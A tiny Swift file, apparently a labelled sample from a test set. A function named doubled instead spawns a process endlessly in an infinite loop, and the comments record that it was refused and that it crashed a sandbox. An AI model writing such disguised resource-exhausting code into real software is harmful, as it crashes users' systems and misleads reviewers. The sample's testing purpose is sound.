// Starts programs for ever.
// audited: refused; Process
// sandboxed: crashed; asked the system; review

import Foundation

public func doubled(_ x: Double) throws -> Double {
  while true {
    let process = Process()
    process.executableURL = URL(filePath: "/gradus/check-runner")
    try process.run()
  }
}
